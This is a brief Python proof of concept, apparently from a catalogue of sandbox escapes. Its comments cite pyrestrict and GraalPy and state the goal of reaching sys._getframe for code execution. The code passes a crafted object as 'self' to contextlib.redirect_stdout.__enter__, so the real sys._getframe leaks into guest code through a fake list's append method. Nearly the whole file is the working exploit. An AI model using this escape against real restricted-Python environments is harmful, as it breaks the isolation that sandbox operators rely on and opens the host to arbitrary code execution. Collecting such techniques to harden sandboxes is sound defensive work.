# technique: a library's method is called with the guest's own object for self, whose list receives what it puts away
# source: reading pyrestrict and GraalPy's library
# goal: reach sys._getframe
# impact: exec
import contextlib
class F:
    _stream = '_getframe'
    _new_target = 5
    def __init__(self):
        self._old_targets = L()
class L:
    def append(self, x):
        escaped(x)
f = F()
contextlib.redirect_stdout.__enter__(f)
